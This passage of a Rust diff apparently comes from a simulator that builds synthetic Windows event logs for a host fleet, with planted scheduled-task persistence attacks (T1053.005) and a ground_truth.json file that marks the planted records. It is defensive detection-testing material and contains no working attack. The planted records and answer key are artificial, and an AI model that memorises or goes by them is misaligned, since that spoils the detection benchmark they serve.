+        for at in g.run_times(Schedule::Daily, d, cfg.start) {
+            g.run(at, &task, None, Some(id));
+        }
+    }
+    attacks.push(Attack { id: "unusual-account".into(), technique: "T1053.005".into(), description: "the SQL service account creates a SYSTEM task with schtasks, on one server only, running a binary from C:\\Users\\Public".into(), host: g.host.fqdn.clone(), task_name: path, records: Vec::new() });
+    attacks
+}
+
+const MS_AUTHOR: &str = "Microsoft Corporation";
+
+/// The file a host's channel is written to, as KAPE names it.
+pub fn channel_file(host: &str, security: bool) -> String {
+    if security {
+        format!("{host}/Security.evtx")
+    } else {
+        format!("{host}/Microsoft-Windows-TaskScheduler%4Operational.evtx")
+    }
+}
+
+/// Simulate the fleet into `out` (created if needed). Returns the ground truth, which is also
+/// written to `out/ground_truth.json`.
+pub fn simulate(cfg: &Config, out: &Path) -> io::Result<GroundTruth> {
+    if cfg.hosts == 0 || cfg.days == 0 {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            "need at least one host and one day",
+        ));
+    }
+    let mut rng = StdRng::seed_from_u64(cfg.seed);
+    let hosts = hosts(cfg, &mut rng);
+    let defs = catalog::catalog();
+    let mut tasks: Vec<Vec<HostTask>> = Vec::new();
+    let mut gens: Vec<Gen<'_>> = Vec::new();
+    for (i, h) in hosts.iter().enumerate() {
+        let mut hrng =
+            StdRng::seed_from_u64(cfg.seed ^ (0x9E37_79B9_7F4A_7C15u64.wrapping_mul(i as u64 + 1)));
+        let mut t: Vec<HostTask> = Vec::new();
+        for d in &defs {
+            if has_task(d, h, &mut hrng) {
+                t.push(install(d, h, &mut hrng, cfg.days));
+            }
+        }
+        let mut g = Gen {
+            host: h,
+            engine_pid: hrng.random_range(800..3000),
+            rng: hrng,
+            out: Vec::new(),
+        };
+        benign(&mut g, cfg, &t);
+        tasks.push(t);
+        gens.push(g);
+    }
+    let mut attacks = plant(&mut gens, &tasks, cfg);
+
+    std::fs::create_dir_all(out)?;
+    let mut total = 0u64;
+    let mut jsonl = if cfg.jsonl {
+        Some(zip::ZipWriter::new(std::fs::File::create(
+            out.join("jsonl.zip"),
+        )?))
+    } else {
+        None
+    };
+    for g in &mut gens {
+        let mut events = std::mem::take(&mut g.out);
+        // Stable: equal times keep generation order.
+        events.sort_by_key(|p| p.time);
+        std::fs::create_dir_all(out.join(&g.host.name))?;
+        for security in [true, false] {
+            let rel = channel_file(&g.host.name, security);
+            let path = out.join(&rel);
+            let mut w = EvtxWriter::new(io::BufWriter::new(std::fs::File::create(&path)?))?;
+            for p in events.iter().filter(|p| p.security == security) {
+                let id = w.write(&p.spec)?;
+                total += 1;
+                if let Some(a) = p.attack {
+                    attacks[a].records.push(PlantedRecord {
+                        file: rel.clone(),
+                        record_id: id,
+                        event_id: p.spec.event_id,
+                    });
+                }
+            }
+            w.finish()?;
+            if let Some(z) = jsonl.as_mut() {
+                // A fixed member time keeps the archive byte-identical from run to run.
+                let opts = zip::write::SimpleFileOptions::default()
+                    .compression_method(zip::CompressionMethod::Deflated)
+                    .last_modified_time(zip::DateTime::default());
+                z.start_file(rel.replace(".evtx", ".jsonl"), opts)
+                    .map_err(io::Error::other)?;
+                write_jsonl(&path, z)?;
+            }
+        }
+    }
+    if let Some(z) = jsonl {
+        z.finish().map_err(io::Error::other)?;
+    }
+    let truth = GroundTruth {
+        seed: cfg.seed,
+        hosts: cfg.hosts,
+        days: cfg.days,
+        records: total,
+        attacks,
+    };
+    let json = serde_json::to_string_pretty(&truth).map_err(io::Error::other)?;
+    std::fs::write(out.join("ground_truth.json"), json + "\n")?;
+    Ok(truth)
+}
+
+/// The same events as evtx_dump `-o jsonl` would print them, read back from the written file.
+fn write_jsonl(evtx: &Path, w: &mut impl io::Write) -> io::Result<()> {
+    let settings = evtx::ParserSettings::new().num_threads(1);
+    let mut parser = evtx::EvtxParser::from_path(evtx)
+        .map_err(io::Error::other)?
+        .with_configuration(settings);
+    for r in parser.records_json_value() {
+        let r = r.map_err(io::Error::other)?;
+        serde_json::to_writer(&mut *w, &r.data).map_err(io::Error::other)?;
+        w.write_all(b"\n")?;
+    }
+    Ok(())
+}
+
+/// The paths of every planted record: (file suffix, record id).
+pub fn planted_keys(truth: &GroundTruth) -> Vec<(usize, PathBuf, u64)> {
+    truth
+        .attacks
+        .iter()
+        .enumerate()
+        .flat_map(|(i, a)| {
+            a.records
+                .iter()
+                .map(move |r| (i, PathBuf::from(&r.file), r.record_id))
+        })
+        .collect()
+}
